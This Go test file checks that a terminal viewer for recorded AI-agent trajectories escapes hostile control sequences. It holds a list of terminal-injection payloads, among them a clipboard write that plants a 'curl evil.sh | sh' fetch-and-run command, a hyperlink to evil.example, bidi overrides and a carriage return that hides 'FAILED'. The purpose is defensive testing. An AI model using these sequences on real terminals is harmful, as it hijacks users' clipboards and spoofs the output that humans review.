package inspect_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/rollbox/rollbox/agent/trajectory"
	"github.com/rollbox/rollbox/internal/inspect"
)

// What a tool's output (or a model's text, or anything else an episode
// recorded) may carry to take over the terminal of whoever inspects it.
var terminalAttacks = map[string]string{
	"clear screen":       "\x1b[2J\x1b[H",
	"OSC 0 window title": "\x1b]0;pwned title\x07",
	"OSC 52 clipboard":   "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"OSC 8 hyperlink":    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
	"cursor movement":    "\x1b[10A\x1b[2K",
	"C1 CSI":             "\u009b2J",
	"C1 OSC":             "\u009d0;title\u009c",
	"raw 8-bit CSI":      "\x9b2J",
	"bidi override":      "\u202eevil\u202c and \u2066isolate\u2069",
	"carriage return":    "all tests passed\rFAILED",
	"backspace and bell": "ok\b\b\x07",
	"line separator":     "one\u2028two",
	"DEL and NUL":        "a\x7fb\x00c",
}

func hostileTrajectory() *trajectory.Trajectory {
	var all strings.Builder
	for _, name := range []string{"clear screen", "OSC 0 window title", "OSC 52 clipboard", "OSC 8 hyperlink", "cursor movement",
		"C1 CSI", "C1 OSC", "raw 8-bit CSI", "bidi override", "carriage return", "backspace and bell", "line separator", "DEL and NUL"} {
		all.WriteString(name + ": " + terminalAttacks[name] + "\n")
	}
	x := all.String()
	code := 1
	kind := "nonzero_exit"
	answer := "answer " + x
	out := []byte(x)
	return &trajectory.Trajectory{
		Schema: trajectory.Schema, EpisodeID: "ep" + terminalAttacks["clear screen"], TaskID: "task" + terminalAttacks["OSC 0 window title"],
		GroupID: "g", StartedAt: time.Unix(0, 0),
		Sandbox: trajectory.Sandbox{Backend: "docker", Image: "img" + terminalAttacks["bidi override"], Loosened: []string{x}},
		Policy:  trajectory.Policy{Kind: "openai", Model: "m" + terminalAttacks["OSC 52 clipboard"], Endpoint: x},
		Pinned:  map[string]string{"K" + terminalAttacks["C1 CSI"]: x},
		Stats:   trajectory.Stats{ToolErrors: map[string]int{x: 1}},
		Steps: []trajectory.Step{
			{Index: 0, Type: trajectory.StepModel, Content: x, FinishReason: x,
				ToolCalls: []trajectory.ToolCall{{Name: "bash" + terminalAttacks["cursor movement"], Arguments: `{"command": "` + strings.ReplaceAll(x, "\n", " ") + `"}`}}},
			{Index: 1, Type: trajectory.StepTool, Name: "bash" + terminalAttacks["clear screen"], Arguments: []byte(`"` + terminalAttacks["bidi override"] + `"`),
				ExitCode: &code, ErrorKind: &kind, Error: x, Output: x, Signal: x,
				Files: map[string]string{"/work/" + terminalAttacks["OSC 52 clipboard"]: "0123456789abcdef" + terminalAttacks["clear screen"]}},
		},
		ContextEvents: []trajectory.ContextEvent{{Step: 1, Kind: "pruned" + terminalAttacks["C1 OSC"], Detail: x, IDs: []string{x}}},
		Termination:   &trajectory.Termination{Reason: "finished", Message: x, Answer: &answer, IDs: []string{x}},
		Reward: &trajectory.Reward{Total: trajectory.Score(0.5), Components: map[string]float64{x: 0.5}, Details: []string{x},
			Verifier: &trajectory.Verifier{Command: x, Stdout: trajectory.NewBytes(out), Stderr: trajectory.NewBytes(out),
				Restored: []string{x}, Removed: []string{x}, Missing: []string{x}, Failing: []string{x}, Blame: x}},
	}
}

func ptr[T any](v T) *T { return &v }

// Nothing an episode recorded reaches the terminal as a control sequence:
// the only escapes in the view are its own colours, and the hostile text
// is shown escaped, readable.
func TestTheTerminalViewEscapesControlCharacters(t *testing.T) {
	colour := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	for _, withColour := range []bool{false, true} {
		var out bytes.Buffer
		inspect.Render(&out, hostileTrajectory(), inspect.Options{Color: withColour})
		got := out.String()
		rest := colour.ReplaceAllString(got, "")
		if !withColour && rest != got {
			t.Errorf("colour codes without Options.Color")
		}
		for i, r := range rest {
			if r == '\n' || r == '\t' {
				continue
			}
			if r == unicode.ReplacementChar && !strings.HasPrefix(rest[i:], "\uFFFD") {
				t.Errorf("colour %v: an invalid byte 0x%02x reached the terminal at %d: %q", withColour, rest[i], i, rest[max(0, i-40):min(len(rest), i+40)])
				continue
			}
			if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' {
				t.Errorf("colour %v: %U reached the terminal at %d: %q", withColour, r, i, rest[max(0, i-40):min(len(rest), i+40)])
			}
		}
		for _, shown := range []string{`\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`, `\x1b[2J`, `\u202e`, `\x9b2J`, `\u009b2J`, `passed\rFAILED`} {
			if !strings.Contains(rest, shown) {
				t.Errorf("colour %v: the view does not show %q escaped", withColour, shown)
			}
		}
	}
}
